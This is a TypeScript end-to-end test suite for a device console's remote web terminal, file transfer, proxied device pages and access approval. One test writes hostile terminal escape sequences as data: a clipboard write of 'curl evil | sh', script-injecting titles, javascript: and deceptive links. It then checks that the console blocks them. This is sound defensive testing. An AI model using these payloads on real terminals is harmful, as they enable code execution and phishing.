/** Remote operation in the console: a terminal that is typed in, and the web page of a device in a window of its own. */
import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { WebSocket } from 'ws'
import { heldTunnel } from '#api/remote/tunnels'
import { hostsOf } from '#device-sim/hosts'
import { treeOf } from '#device-sim/remote/tree'
import type { Sim } from '#device-sim/start'
import { TERMINAL_PATH, TERMINAL_PROTOCOL } from '#schema/remote/terminal-frame'
import { simulated, TEST_PASSWORD, type TestDevice } from '#test/tenants'
import { until } from '../walks/until.ts'
import { eachConsole, type Opening } from './each-console.ts'
import { noBrowser, picture, SIZES } from './open-browser.ts'

describe.skipIf(noBrowser)('remote operation', () => {
  let opening: Opening
  let device: TestDevice
  let sim: Sim

  eachConsole(
    async (next) => {
      opening = next
      const [first] = next.tenants.a.devices
      if (!first) throw new Error('no device')
      device = first
      sim = next.booted.sim as Sim
      await sim.whenOnline(60_000)
      await next.enter(next.tenants.a.admin.username)
    },
    ({ a }) => simulated(a.devices.slice(0, 1)),
  )

  /** Somebody else watches the open terminal of the device. */
  async function watchOf(deviceId: number): Promise<WebSocket> {
    const { booted, tenants } = opening
    const as = await booted.login(tenants.superAdmin.username, TEST_PASSWORD)
    const open = await booted.call('remote/getRemoteList', { deviceId, open: 'yes' }, as)
    const [session] = (open.data as { list: { sessionId: string }[] }).list
    const answer = await booted.call('remote/getWatchTicket', { sessionId: session?.sessionId }, as)
    const { ticket } = answer.data as { ticket: string }
    return new WebSocket(booted.url.replace('http', 'ws') + TERMINAL_PATH, [TERMINAL_PROTOCOL, ticket])
  }

  it('a terminal connects, logs in, shows what is typed, and closes', async () => {
    const { page } = opening
    const as = await opening.booted.login(opening.tenants.a.admin.username, TEST_PASSWORD)
    await opening.booted.call('remote/addSnippet', { name: 'Who', text: 'whoami' }, as)
    const detail = `/device/particulars/${device.groupId}/${device.id}?tab=remote`
    await page.goto(detail)
    const connection = page.getByRole('group', { name: 'Remote connection' })
    await connection.getByText('Not connected', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Shell' }).click()
    await page.waitForURL(`**/terminal/webssh/${device.id}/${device.sn}`)
    const columns: number[] = []
    page.on('websocket', (socket) =>
      socket.on('framesent', ({ payload }) => {
        const told = /"t":"size","columns":(\d+)/.exec(String(payload))?.[1]
        if (told !== undefined) columns.push(Number(told))
      }),
    )
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    // A password from elsewhere is pasted into its field, not into the terminal behind it.
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    const password = page.locator('input[type=password]').first()
    await password.click()
    await page.evaluate(() => navigator.clipboard.writeText('from elsewhere'))
    await page.keyboard.press('Control+V')
    await expect.poll(() => password.inputValue()).toBe('from elsewhere')
    await password.fill('')
    await page.getByRole('button', { name: 'Log in' }).click()
    const rows = page.locator('.xterm-rows')
    await rows.getByText(':~#').first().waitFor()
    await page.setViewportSize(SIZES.narrow)
    await until('the device hears of the smaller window', () => columns.some((count) => count < 60))
    await page.setViewportSize(SIZES.wide)
    await until('and of the larger one', () => (columns.at(-1) ?? 0) > 100)
    await page.getByRole('button', { name: 'Extend', exact: true }).click()
    await page.getByText(/^Extended until/).waitFor()
    await page.locator('.xterm-screen').click()
    await page.keyboard.type('echo 路由器-ok')
    await page.keyboard.press('Enter')
    await until('the echo', async () => ((await rows.innerText()).match(/路由器-ok/g) ?? []).length >= 2)
    await picture(page, 'remote', 'terminal')
    // What is selected is copied by the key that interrupts without a selection.
    const echoed = await rows.getByText('路由器-ok').last().boundingBox()
    await page.mouse.dblclick((echoed?.x ?? 0) + 10, (echoed?.y ?? 0) + 8)
    const copied = () => page.evaluate(() => navigator.clipboard.readText())
    await page.keyboard.press('Control+C')
    await expect.poll(copied).toMatch(/ok/)
    expect(await rows.innerText()).not.toContain('^C')
    await page.keyboard.press('Control+C')
    await rows.getByText('^C').first().waitFor()
    const pasteText = (text: string) =>
      page.locator('.xterm-helper-textarea').evaluate((field, pasted) => {
        const data = new DataTransfer()
        data.setData('text/plain', pasted)
        field.dispatchEvent(
          new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }),
        )
      }, text)
    // One line is run by Enter only, whatever came along with it.
    await pasteText('echo pas\u0003ted\n')
    await rows.getByText('echo pasted').waitFor()
    await page.keyboard.type('-once')
    await page.keyboard.press('Enter')
    await until('its output', async () => (await rows.innerText()).split('pasted-once').length === 3)
    // Several lines are shown as lines before they are sent: each may be a command.
    await pasteText('uptime\nreboot\n')
    const paste = page.getByRole('dialog', { name: 'Paste 2 lines?' })
    await until('both lines', async () => /^uptime\nreboot$/m.test(await paste.innerText()))
    await picture(page, 'remote', 'paste')
    await paste.getByRole('button', { name: 'Cancel' }).click()
    // A snippet of the customer: shown, then run.
    await page.getByRole('button', { name: 'Snippets', exact: true }).click()
    await page.getByRole('menuitem', { name: 'Who' }).click()
    await picture(page, 'remote', 'snippet')
    await page.getByRole('button', { name: 'Run', exact: true }).click()
    await until('its output', async () => /whoami\s+root/.test(await rows.innerText()))
    // Another page and back: the shell is still there.
    await page.getByRole('link', { name: 'Devices', exact: true }).first().click()
    await page.waitForURL('**/device/devicelist*')
    await page.goBack()
    await page.waitForURL('**/terminal/webssh/**')
    const other = await page.context().newPage()
    await other.goto(new URL(detail, page.url()).href)
    const shown = other.getByRole('group', { name: 'Remote connection' })
    await shown.getByText('Connected', { exact: true }).waitFor()
    await shown.getByText(`by ${opening.tenants.a.admin.username} since`).waitFor()
    await picture(other, 'remote', 'connection')
    await other.close()
    await page.locator('.xterm-screen').click()
    await page.keyboard.type('uname\n')
    await rows.getByText('Linux').first().waitFor()
    const watched = page.getByText(/^Watched by /)
    const watching = await watchOf(device.id)
    await watched.waitFor()
    await page.route('**/api/remote/closeRemote', (route) => route.abort())
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page
      .getByText(/^Disconnect failed: /)
      .first()
      .waitFor()
    await page.unroute('**/api/remote/closeRemote')
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.getByText('The session has ended.').waitFor()
    await expect.poll(() => watched.count()).toBe(0)
    watching.close()
    // Of somebody else: by whom and since when, in the time of the browser.
    const { sql } = opening.booted.context
    await sql`
      insert into remote_sessions (id, device_id, customer_id, user_id, command_id, kind, scheme, host, port, expires_at)
      select gen_random_uuid(), ${device.id}, ${opening.tenants.a.customerId}, id, gen_random_uuid(), 'terminal', 'ssh',
        '127.0.0.1', 22, now() + interval '1 hour' from users where username = ${opening.tenants.superAdmin.username}`
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    await page.getByText(/already in use by .+ since \d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/).waitFor()
    await sql`update remote_sessions set state = 'ended', ended_at = now(), end_reason = 'closed' where ended_at is null`
    await page.goto('/device/remotesession')
    await page.getByRole('row').filter({ hasText: device.sn }).first().waitFor()
    await picture(page, 'remote', 'sessions')
  }, 120_000)

  it('a terminal reconnects by itself when the device was offline, and keeps its scrollback', async () => {
    const { page } = opening
    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    await page.getByRole('button', { name: 'Log in' }).click()
    const rows = page.locator('.xterm-rows')
    await rows.getByText(':~#').first().waitFor()
    await page.keyboard.type('echo before-it\n')
    await until('the echo', async () => ((await rows.innerText()).match(/before-it/g) ?? []).length >= 2)
    const part = sim.device(device.sn)
    part?.down()
    await page.getByText('The connection was interrupted').waitFor()
    await picture(page, 'remote', 'away')
    part?.boot()
    await page.getByRole('button', { name: 'Log in' }).click()
    await until('a new shell below the old text', async () => {
      const text = await rows.innerText()
      return text.includes('before-it') && (text.match(/BusyBox built-in shell/g) ?? []).length === 2
    })
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.getByText('The session has ended.').waitFor()
  }, 120_000)

  it('a reload, and another window, go on with the session and its shells instead of opening new ones', async () => {
    const { page, booted } = opening
    const part = sim.device(device.sn)
    if (!part) throw new Error('no device')
    // Questions to the terminal: their answers are typed once, not again by every page that repeats what was shown.
    treeOf(part).write('/root/questions', 0, Buffer.from('\u001b[6n\u001b[c\u001b[5nasked\n'))
    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    const pane = (number: number, of = page) =>
      of.getByRole('region', { name: `Shell ${number}`, exact: true })
    const rows = (number: number, of = page) => pane(number, of).locator('.xterm-rows')
    await page.getByRole('button', { name: 'Log in' }).click()
    await rows(1).getByText(':~#').first().waitFor()
    await page.keyboard.type('cat /root/questions\n')
    await rows(1).getByText('asked').first().waitFor()
    await page.keyboard.press('Control+C')
    await page.keyboard.type('echo first-shell\n')
    await until('the echo', async () => (await rows(1).innerText()).split('first-shell').length === 3)
    await page.getByRole('button', { name: 'New shell' }).click()
    await pane(2).getByRole('button', { name: 'Log in' }).click()
    await rows(2).getByText(':~#').first().waitFor()
    await page.keyboard.type('echo second-shell\n')
    await until('the echo', async () => (await rows(2).innerText()).split('second-shell').length === 3)
    const sessions = async () => {
      const [row] = await booted.context
        .sql`select count(*)::int as n from remote_sessions where ended_at is null`
      return row?.['n']
    }
    await page.reload()
    await until(
      'the second shell',
      async () => (await rows(2).innerText()).split('second-shell').length === 3,
    )
    expect(await page.getByRole('button', { name: 'Log in' }).count()).toBe(0)
    await page.keyboard.type('echo after-reload\n')
    await until('it goes on', async () => (await rows(2).innerText()).split('after-reload').length === 3)
    await picture(page, 'remote', 'joined')
    await page.getByRole('button', { name: 'Shell 1', exact: true }).click()
    await rows(1).getByText('first-shell').first().waitFor()
    const before = await rows(1).innerText()
    await page.waitForTimeout(300)
    // Nothing was typed by the terminal itself.
    expect((await rows(1).innerText()).trimEnd()).toBe(before.trimEnd())
    expect(before.trimEnd().split('\n').at(-1)).toMatch(/:~#$/)
    expect(await sessions()).toBe(1)

    const other = await page.context().newPage()
    await other.goto(new URL(`/terminal/webssh/${device.id}/${device.sn}`, page.url()).href)
    await other.getByText('Another window shows this session.').waitFor()
    await picture(other, 'remote', 'elsewhere')
    await other.getByRole('button', { name: 'Continue here' }).click()
    await rows(2, other).getByText('after-reload').first().waitFor()
    await pane(1).getByText('Another window shows this session.').waitFor()
    await picture(page, 'remote', 'taken-over')
    await other.close()
    await pane(1).getByRole('button', { name: 'Continue here' }).click()
    await pane(1).getByText('Another window shows this session.').waitFor({ state: 'hidden' })
    await page.getByRole('button', { name: 'Shell 2', exact: true }).click()
    // Both came back.
    await pane(2).getByText('Another window shows this session.').waitFor({ state: 'hidden' })
    await rows(2).getByText('after-reload').first().waitFor()
    expect(await sessions()).toBe(1)
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await pane(2).getByText('The session has ended.').waitFor()
    await page.reload()
    await page.getByRole('button', { name: 'Connect', exact: true }).waitFor()
    expect(await sessions()).toBe(0)
  }, 120_000)

  it('several terminals of a device, two beside each other, come back after an interruption, and end one by one', async () => {
    const { page, booted } = opening
    const { sql } = booted.context
    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    const pane = (number: number) => page.getByRole('region', { name: `Shell ${number}`, exact: true })
    const rows = (number: number) => pane(number).locator('.xterm-rows')
    const logIn = (number: number) => pane(number).getByRole('button', { name: 'Log in' }).click()
    const type = async (number: number, text: string) => {
      await rows(number).getByText(':~#').last().waitFor()
      await page.keyboard.type(`echo ${text}\n`)
      await until(text, async () => (await rows(number).innerText()).split(text).length > 2)
    }
    await logIn(1)
    await type(1, 'one-here')
    await page.keyboard.press('Alt+Shift+N')
    await pane(1).waitFor({ state: 'hidden' })
    await logIn(2)
    await type(2, 'two-here')
    await page.keyboard.press('Alt+Shift+S')
    await pane(1).waitFor()
    // The keyboard went to the other side.
    await type(1, 'again-one')
    expect(await rows(2).innerText()).not.toContain('again-one')
    await picture(page, 'remote', 'desk-split')
    // The search of the terminal without the keyboard takes it, and keeps it.
    await pane(2).getByRole('button', { name: 'Search', exact: true }).click()
    await pane(1).locator('.xterm-screen').click()
    const sought = pane(2).getByRole('textbox', { name: 'Search', exact: true })
    await sought.click()
    await page.keyboard.type('two-here')
    expect(await sought.inputValue()).toBe('two-here')
    await sought.press('Escape')
    await pane(1).locator('.xterm-screen').click()
    sim.device(device.sn)?.down()
    await until(
      'both are away',
      async () => (await page.getByText('The connection was interrupted').count()) === 2,
    )
    sim.device(device.sn)?.boot()
    // The password is asked for once.
    await pane(2).getByRole('button', { name: 'Log in' }).waitFor()
    await logIn(1)
    for (const [number, text] of [
      [1, 'one-here'],
      [2, 'two-here'],
    ] as const)
      await until('a new shell below the old text', async () => {
        const shown = await rows(number).innerText()
        return shown.includes(text) && shown.split('BusyBox built-in shell').length === 3
      })
    await page.setViewportSize(SIZES.narrow)
    await pane(2).waitFor({ state: 'hidden' })
    await picture(page, 'remote', 'desk-phone')
    // More tabs than fit: the strip fades at the edge beyond which there are more.
    const fades = () =>
      page
        .getByRole('group', { name: 'Shells' })
        .evaluate((strip) => [
          strip.scrollWidth > strip.clientWidth,
          getComputedStyle(strip).maskImage !== 'none',
        ])
    expect(await fades()).toEqual([false, false])
    for (const number of [3, 4]) {
      await page.getByRole('button', { name: 'New shell' }).click()
      await pane(number).waitFor()
    }
    await until('it fades', async () => (await fades()).every(Boolean))
    await picture(page, 'remote', 'desk-phone-many')
    for (const number of [4, 3]) await page.getByRole('button', { name: `Close shell ${number}` }).click()
    await page.getByRole('button', { name: 'Shell 2', exact: true }).click()
    await pane(1).waitFor({ state: 'hidden' })
    await page.setViewportSize(SIZES.wide)
    const recorded = async () => {
      const [row] = await sql`select count(*)::int as n from terminal_recordings where ended_at is null`
      return row?.['n']
    }
    await until('both are recorded', async () => (await recorded()) === 2)
    await page.getByRole('button', { name: 'Close shell 2' }).click()
    await until('its shell has ended on the device', async () => (await recorded()) === 1)
    await pane(1).click()
    await type(1, 'still-here')
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.getByText('The session has ended.').waitFor()
    expect(await recorded()).toBe(0)
  }, 120_000)

  it('what a hostile device writes changes no title, opens no link, writes no clipboard and types nothing', async () => {
    const { page } = opening
    const part = sim.device(device.sn)
    if (!part) throw new Error('no device')
    const osc = (text: string) => `\u001b]${text}\u0007`
    const link = (url: string, text: string) => `${osc(`8;;${url}`)}${text}${osc('8;;')}\r\n`
    const hostile = [
      osc('0;Sign in again\u202e<img src=x onerror=touched()>'),
      osc(`2;${'reboot INJECTED '.repeat(40)}`),
      osc(`52;c;${Buffer.from('curl evil | sh\n').toString('base64')}`),
      osc('52;c;?'),
      osc('777;notify;you;lost'),
      // Asks for the title, the icon's title, and for what a request holds: an answer would be typed.
      '\u001b[21t\u001b[20t\u001bP$qINJECTED\u001b\\',
      link('javascript:touched()', 'first-link'),
      link('https://evil.example/?x=1', 'https://bank.example'),
      '<script>touched()</script><img src=x onerror=touched()>',
    ]
    treeOf(part).write('/root/hostile', 0, Buffer.from(hostile.join('')))
    await page.addInitScript(() => {
      const seen: string[] = []
      Object.assign(window, { seen, touched: () => seen.push('script') })
      window.open = (url) => {
        seen.push(`open ${url}`)
        return null
      }
      const clipboard = {
        writeText: () => seen.push('write'),
        write: () => seen.push('write'),
        readText: () => seen.push('read'),
      }
      Object.defineProperty(navigator, 'clipboard', { value: clipboard })
      document.execCommand = (name) => seen.push(name) > 0
    })
    const touched = () => page.evaluate(() => (window as unknown as { seen: string[] }).seen)
    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    await page.getByRole('button', { name: 'Log in' }).click()
    const rows = page.locator('.xterm-rows')
    await rows.getByText(':~#').first().waitFor()
    const title = await page.title()
    await page.keyboard.type('cat /root/hostile\n')
    await rows.getByText('first-link').waitFor()
    // What is answered to such questions is fixed, and at most a few characters of the line.
    await page.keyboard.press('Control+C')
    await page.keyboard.type('echo the-end\n')
    await until(
      'what was written is shown',
      async () => (await rows.innerText()).split('the-end').length === 3,
    )
    expect(await page.title()).toBe(title)
    expect(await rows.innerText()).not.toContain('INJECTED')
    // Only its own tab calls it so, cut and as text.
    const named = await page.getByRole('button', { name: 'Shell 1' }).getByText('reboot').innerText()
    expect(named.length).toBeLessThanOrEqual(60)
    const press = async (text: string) => {
      // A row is drawn anew while the pointer enters or leaves a link.
      const box = await until(`${text} is shown`, () =>
        rows.getByText(text).first().boundingBox({ timeout: 1_000 }),
      )
      await page.mouse.move(box.x + 20, box.y + box.height / 2)
      await page.mouse.move(box.x + 24, box.y + box.height / 2)
      await page.mouse.click(box.x + 24, box.y + box.height / 2)
    }
    await press('first-link')
    await press('https://bank.example')
    const dialog = page.getByRole('dialog')
    await dialog.getByText('https://evil.example/?x=1').waitFor()
    await picture(page, 'remote', 'hostile')
    expect(await touched()).toEqual([])
    await dialog.getByRole('button', { name: 'Cancel' }).click()
    expect(await touched()).toEqual([])
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.getByText('The session has ended.').waitFor()
  })

  it('the web page of a device opens under its own origin, logs in, and knows nothing of the console', async () => {
    const { page } = opening
    await page.goto(`/web/${device.id}/${device.sn}`)
    // The port follows the protocol, and may be another one.
    const port = page.getByRole('textbox', { name: 'Port' })
    await page.getByText('https', { exact: true }).click()
    await expect.poll(() => port.inputValue()).toBe('443')
    await page.getByText('http', { exact: true }).click()
    await expect.poll(() => port.inputValue()).toBe('80')
    await port.fill('8088')
    await picture(page, 'remote', 'web-port')
    const asked = page.waitForRequest('**/api/remote/openRemote')
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    expect((await asked).postDataJSON()).toMatchObject({ scheme: 'http', port: 8088 })
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await port.fill('80')
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    const open = page.getByRole('button', { name: 'Open the page' })
    await open.waitFor()
    const [shown] = await Promise.all([page.context().waitForEvent('page'), open.click()])
    await shown.getByRole('button', { name: 'Log in' }).click()
    await shown.locator('#model').getByText('R200').waitFor()
    await shown.locator('#live').getByText('up').waitFor()
    await shown.locator('input[name=text]').fill('由浏览器写入')
    await shown.getByRole('button', { name: 'Write to the log' }).click()
    await until('the form has arrived', () =>
      sim.device(device.sn).logbook.lines.some(({ text }) => text === '由浏览器写入'),
    )
    const backup = shown.waitForEvent('download')
    await shown.getByRole('link', { name: 'Backup' }).click()
    expect(readFileSync(await (await backup).path()).subarray(0, 2)).toEqual(Buffer.from([0x1f, 0x8b]))
    expect(new URL(shown.url()).hostname).toMatch(/^[0-9a-f]{40}\.localhost$/)
    const seen = await shown.evaluate(async (api) => {
      const called = await fetch(`${api}/api/user/getUserDetails`, { credentials: 'include' }).then(
        () => 'answered',
        () => 'refused',
      )
      return { cookies: document.cookie, opener: String(window.opener), called }
    }, opening.booted.url)
    expect(seen).toEqual({ cookies: '', opener: 'null', called: 'refused' })
    await picture(page, 'remote', 'web')
    await page.goto(`/gateone/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Open the shell' }).waitFor()
    await picture(page, 'remote', 'operation')
  }, 120_000)

  it('the page of a machine behind the device opens under an origin of its own; an address that is none is said at once', async () => {
    const { page } = opening
    const part = sim.device(device.sn)
    const there = hostsOf(part, part.now()).find(({ ip }) => ip !== undefined)
    await page.goto(`/gateone/${device.id}/${device.sn}`)
    const address = page.getByLabel('Address')
    const connect = page.getByRole('button', { name: 'Connect', exact: true })
    await address.fill('8.8.8.8')
    await expect.poll(() => connect.getAttribute('aria-disabled')).toBe('true')
    await address.fill(there?.ip ?? '')
    await connect.click()
    const open = page.getByRole('button', { name: 'Open the page' })
    await open.waitFor()
    const [shown] = await Promise.all([page.context().waitForEvent('page'), open.click()])
    await shown.getByRole('heading', { name: there?.name ?? '' }).waitFor()
    expect(new URL(shown.url()).hostname).toMatch(/^[0-9a-f]{40}\.localhost$/)
    const cookies = await page.context().cookies(page.url())
    const said = Object.fromEntries(cookies.map(({ name, value }) => [name, value]))
    expect(said).toMatchObject({ device_ip: there?.ip, device_port: '80' })
    await page.getByRole('button', { name: 'Close', exact: true }).first().click()
    // What was opened leads nowhere any more.
    await until('it is over', async () => ((await shown.reload())?.status() ?? 0) === 404)
    await shown.close()
  }, 120_000)

  it('files are listed, uploaded and downloaded in the pane, and what the terminal has shown is replayed', async () => {
    const { page } = opening
    await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
    await page.getByRole('button', { name: 'Connect', exact: true }).click()
    await page.getByRole('button', { name: 'Log in' }).first().click()
    const rows = page.locator('.xterm-rows')
    await rows.getByText(':~#').first().waitFor()
    await page.keyboard.type('echo seen-again\n')
    await until('the echo', async () => ((await rows.innerText()).match(/seen-again/g) ?? []).length >= 2)
    await picture(page, 'remote', 'files-closed')
    await page.getByRole('button', { name: 'Open the files' }).click()
    // A broken upload is not lost: the device has what arrived.
    await page.route('**/api/remote/uploadFile*', (route) => route.abort())
    await page.locator('input[type=file]').setInputFiles({
      name: 'broken.bin',
      mimeType: 'application/octet-stream',
      buffer: Buffer.alloc(100_000, 1),
    })
    await page.getByText('upload the same file again to continue').waitFor()
    // A browser says nothing when the file that it holds is chosen again.
    await expect.poll(() => page.locator('input[type=file]').inputValue()).toBe('')
    await page.unroute('**/api/remote/uploadFile*')
    await page.locator('input[type=file]').setInputFiles({
      name: 'ports.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('502\n'),
    })
    const sent = page.getByRole('row').filter({ hasText: 'ports.txt' })
    await sent.waitFor()
    await page.locator('input[type=file]').setInputFiles({
      name: 'more.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('503\n'),
    })
    const second = page.getByRole('row').filter({ hasText: 'more.txt' })
    await second.waitFor()
    // What the device has is not replaced without a question.
    const again = { name: 'more.txt', mimeType: 'text/plain', buffer: Buffer.from('504504504\n') }
    await page.locator('input[type=file]').setInputFiles(again)
    const question = page.getByRole('dialog').filter({ hasText: 'Replace more.txt?' })
    await question.getByRole('button', { name: 'Cancel' }).click()
    await question.waitFor({ state: 'detached' })
    expect(await second.innerText()).toContain('4 B')
    await page.locator('input[type=file]').setInputFiles(again)
    await question.getByRole('button', { name: 'Replace' }).click()
    await second.getByText('10 B').waitFor()
    // The first download breaks off after two bytes; the next one brings the rest.
    await page.evaluate(() => {
      const whole = window.fetch
      window.fetch = async (...asked) => {
        const response = await whole(...asked)
        if (!String(asked[0]).includes('downloadFile')) return response
        window.fetch = whole
        const read = new Uint8Array(await response.arrayBuffer()).subarray(0, 2)
        let given = false
        const pull = async (to: ReadableStreamDefaultController) => {
          await new Promise((done) => setTimeout(done, 50))
          if (given) return to.error(new TypeError('network'))
          given = true
          to.enqueue(read)
        }
        return new Response(new ReadableStream({ pull }), response)
      }
    })
    await sent.getByRole('button', { name: 'Download' }).click()
    await page.getByText('download the same file again to continue').waitFor()
    const saved = page.waitForEvent('download')
    const rest = page.waitForRequest('**/api/remote/downloadFile')
    await sent.getByRole('button', { name: 'Download' }).click()
    expect((await rest).postDataJSON()).toMatchObject({ from: 2 })
    expect(readFileSync(await (await saved).path(), 'utf8')).toBe('502\n')
    // Pressed again while it arrives: the bytes of a second download would get between those of the first.
    let asked = 0
    const seen = Promise.withResolvers<void>()
    await page.route('**/api/remote/downloadFile', async (route) => {
      asked += 1
      await seen.promise
      await route.continue()
    })
    const once = page.waitForEvent('download', (one) => one.suggestedFilename() === 'ports.txt')
    await sent.getByRole('button', { name: 'Download' }).click()
    await page.getByText('ports.txt: 0%').waitFor()
    await sent.getByRole('button', { name: 'Download' }).click()
    // Another file meanwhile: each has its own progress.
    await second.getByRole('button', { name: 'Download' }).click()
    await page.getByText('more.txt: 0%').waitFor()
    expect(await page.getByText('ports.txt: 0%').count()).toBe(1)
    seen.resolve()
    expect(readFileSync(await (await once).path(), 'utf8')).toBe('502\n')
    await page.getByText('more.txt: ').waitFor({ state: 'detached' })
    await page.unroute('**/api/remote/downloadFile')
    expect(asked).toBe(2)
    await page.getByRole('button', { name: '/', exact: true }).click()
    // A link that leads to a folder: there is the file that was sent.
    await page.getByRole('button', { name: 'var', exact: true }).click()
    await sent.waitFor()
    await page.getByRole('button', { name: '/', exact: true }).click()
    await page.getByRole('button', { name: 'etc' }).click()
    await page.getByRole('row').filter({ hasText: 'openwrt_release' }).waitFor()
    await picture(page, 'remote', 'files')
    // The device ends the connection of the files, not that of the shell: the pane asks for the account again.
    const [held] = await opening.booted.context.sql<{ id: string }[]>`
      select id from remote_sessions where ended_at is null order by created_at desc limit 1`
    heldTunnel(held?.id ?? '')
      ?.files.get('login')
      ?.close()
    await page.getByRole('button', { name: '/', exact: true }).click()
    await page.getByRole('button', { name: 'Open the files' }).click()
    await sent.waitFor()
    // The folder whose reading told of that end can be opened again.
    await page.getByRole('button', { name: '/', exact: true }).click()
    await page.getByRole('button', { name: 'etc', exact: true }).waitFor()
    await page.getByRole('button', { name: 'Close', exact: true }).click()
    await page.goto('/device/recordings')
    await page.getByRole('row').filter({ hasText: device.sn }).first().getByRole('link').first().click()
    await page.waitForURL('**/device/recordings/*')
    await page.locator('.xterm-rows').getByText('seen-again').first().waitFor()
    // Once more from its beginning, faster, and to where something was written.
    const text = page.locator('.xterm-rows').getByText('seen-again')
    const replay = page.getByRole('button', { name: 'Play', exact: true })
    const toStart = page.getByRole('button', { name: 'To the beginning' })
    await replay.waitFor()
    await toStart.click()
    await until('it is at its beginning', async () => (await text.count()) === 0)
    await page.getByText('8×', { exact: true }).click()
    await replay.click()
    await text.first().waitFor()
    await replay.waitFor()
    await toStart.click()
    await until('it is at its beginning', async () => (await text.count()) === 0)
    await page.getByRole('textbox', { name: 'Search what was shown' }).fill('seen-again')
    await page
      .getByRole('button', { name: /seen-again/ })
      .last()
      .click()
    await text.first().waitFor()
    await picture(page, 'remote', 'replay')
  }, 180_000)

  it('a device whose group demands it opens after a second person has approved', async () => {
    const { page, booted, tenants } = opening
    const { sql } = booted.context
    await sql`update groups set remote_approval = 'required' where id = ${device.groupId}`
    try {
      await page.goto(`/terminal/webssh/${device.id}/${device.sn}`)
      await page.getByRole('button', { name: 'Request access' }).click()
      const drawer = page.getByRole('dialog')
      await drawer.getByLabel('Reason').fill('pump stands still')
      await picture(page, 'remote', 'access-ask')
      await drawer.getByRole('button', { name: 'Request access' }).click()
      await page.getByText('Waiting for approval').waitFor()
      const connect = page.getByRole('button', { name: 'Connect', exact: true })
      await expect.poll(() => connect.getAttribute('aria-disabled')).toBe('true')
      const as = await booted.login(tenants.superAdmin.username, TEST_PASSWORD)
      const [row] = await sql<
        { id: number }[]
      >`select id from remote_accesses where state = 'waiting' order by id desc`
      expect((await booted.call('remote/approveAccess', { accessId: row?.id }, as)).code).toBe(0)
      await page.getByText('Approved by').waitFor()
      await connect.click()
      await page.getByRole('button', { name: 'Log in' }).waitFor()
      await picture(page, 'remote', 'access-approved')
      // Not by the user who asked for it.
      await page.getByRole('button', { name: 'Extend', exact: true }).click()
      await page.getByText(/^Not extended: the access is approved until/).waitFor()
      // Ended by somebody else: the terminal closes at once, and says why.
      await booted.call('remote/endAccess', { accessId: row?.id }, as)
      await page.getByText('Closed, because its approval ended').waitFor()
      await page.goto('/device/remoteaccess')
      await page.getByRole('row').filter({ hasText: 'pump stands still' }).waitFor()
      await picture(page, 'remote', 'access-list')
    } finally {
      await sql`update groups set remote_approval = 'inherit' where id = ${device.groupId}`
    }
  }, 120_000)
})
